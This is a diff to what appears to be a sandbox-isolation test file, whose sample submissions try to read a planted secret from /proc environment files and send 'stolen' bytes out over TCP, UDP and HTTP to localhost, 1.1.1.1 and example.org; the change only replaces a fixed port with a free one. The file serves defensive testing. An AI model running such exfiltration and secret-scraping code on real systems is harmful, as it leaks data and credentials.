@@ -1,7 +1,9 @@
 """Submissions that look for what they should not see. What they find, they print; the test looks for it in the feedback."""
+from conftest import free_port
 from submissions import FULL, RIGHT, WRONG, attempt
 
 SECRET = "THE-SECRET-OUTSIDE"   # the test writes it into a file, the environment and another submission
+PORT = free_port()              # the test listens there
 
 
 @attempt(FULL, RIGHT)
@@ -33,15 +35,15 @@ for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"
 def calls_home(work):
     """Opens connections to the outside: by address, by name, by HTTP, by UDP."""
     work.first('''import socket, urllib.request
-for address in (("127.0.0.1", 47123), ("1.1.1.1", 53), ("example.org", 80)):
+for address in (("127.0.0.1", PORT), ("1.1.1.1", 53), ("example.org", 80)):
     try:
         socket.create_connection(address, timeout=0.3).send(b"stolen")
         print("CONNECTED", address)
     except OSError: pass
-try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", 47123))
+try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", PORT))
 except OSError: pass
 try: print("CONNECTED", urllib.request.urlopen("http://example.org", timeout=0.3).status)
-except OSError: pass''')
+except OSError: pass'''.replace("PORT", str(PORT)))
 
 
 @attempt(FULL, RIGHT)
